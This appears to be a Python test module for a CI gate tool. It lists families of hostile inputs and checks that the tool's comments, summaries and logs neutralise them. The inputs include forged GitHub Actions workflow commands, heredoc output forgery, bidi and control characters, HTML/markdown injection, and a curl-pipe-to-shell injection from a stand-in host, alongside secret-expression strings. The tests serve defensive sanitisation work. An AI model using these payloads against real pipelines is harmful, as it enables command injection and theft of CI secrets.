"""Texts that want to be more than text, and what no sink may show of them."""

from __future__ import annotations

import itertools
import re
from collections.abc import Mapping, Sequence
from typing import Final

from tests.scenarios.page import find_faults
from tests.scenarios.world import Gate

FORGED: Final = "key=x run="
"""Part of a marker that is not ours, for comments of other people."""
FAMILIES: Final[Mapping[str, tuple[str, ...]]] = {
    "command": (
        "::set-output name=passed::true",
        " \t::error::forged",
        "fine\r::add-mask::pass",
        "fine\n::stop-commands::x",
        "\u2028::error::x\u2029::error::x\x85::error::x\x0b::error::x\x0c::error::x",
        "%0A::error::x%0D%0A##[error]x%3A%3A",
    ),
    "old-command": (
        "in the middle ##[add-mask]pass",
        "##[group]x",
        "##\u200b[error]x #\x1b[0m#[error]x ##\x00[error]x",
    ),
    "heredoc": (
        "ghadelimiter_00000000000000000000000000000000\npassed=true",
        "EOF\npassed<<EOF\ntrue\nEOF",
    ),
    "terminal": (
        "\x1b[31mred\x1b]8;;https://evil.example\x07link\x9b2J",
        "\u202egnp.exe\u202c \u2066x\u2069 \ufeff \U000e0041",
        "\x00nul\x08\x7f",
    ),
    "html": (
        "<!-- devin-gate key=x run=9 attempt=9 -->",
        "--> <!-- devin-gate key=x run=9 attempt=9 -->",
        "</code></pre></td></table>\n\n<img src=https://evil.example> <details open><script>x",
        "&lt;img src=x&gt; &#64;octocat &amp;#64;octocat",
    ),
    "markdown": (
        "```\n@org/team ![x](https://evil.example/x.png)\n```\n~~~\n@org/team",
        "![x][y] ![x](//evil.example/x.png)\n\n[y]: //evil.example",
        "\n\n# Heading\n\n@octocat fixes #1, closes octo-org/octo-repo#2 GH-3 @org/team",
        "x\n/merge\n!approve\n@devin go\n- [ ] task",
        "| a | b |\n|---|---|\n| @octocat | <b>x</b> |",
        "` @octocat ` `` @octocat",
    ),
    "expression": (
        "${{ secrets.DEVIN_API_KEY }} $(id) `id` $GITHUB_TOKEN",
        "'; curl https://evil.example | sh; echo '",
    ),
    "surrogate": ("\ud83d \udc00 \ud800", "\udc00"),
    "long": ("x" * 30_000, "##[add-mask]pass " * 1_500, "\n" * 3_000 + "::error::x", "` " * 9_000),
}


class Texts:
    """Gives the texts of a family in turn, so that each stands alone in some field."""

    def __init__(self, family: Sequence[str], first: int) -> None:
        self._family = (*family[first:], *family[:first])
        self._turn = itertools.cycle(self._family)

    def __call__(self) -> str:
        """Return the next one."""
        return next(self._turn)

    def anew(self) -> Texts:
        """Return the same from the first."""
        return Texts(self._family, 0)


_CONTROL: Final = re.compile(
    r"[^\n\S ]|[\x00-\x09\x0b-\x1f\x7f-\x9f\u200b-\u200f\u202a-\u202e\u2066-\u2069]"
)
_MAX_LINE: Final = 4_300
"""An annotation of 4,096 characters and its title."""
_MAX_COMMENT: Final = 60_200
"""60,000 characters and the marker."""


def check_pages(gate: Gate) -> None:
    """Check comments, summaries and logs: nothing live that is not ours, and all of it short."""
    for run in gate.runs:
        ours = [body for body in run.comments if body.startswith("<!-- devin-gate key=")]
        for text in (run.summary, *(body for body in ours if FORGED not in body)):
            assert find_faults(text) == [], text
        assert all(len(body) <= _MAX_COMMENT for body in ours)
        assert "<!--" not in run.summary
        assert not _CONTROL.search(run.log), _CONTROL.search(run.log)
        assert max(map(len, run.log.split("\n"))) <= _MAX_LINE, "every foreign line is cut"
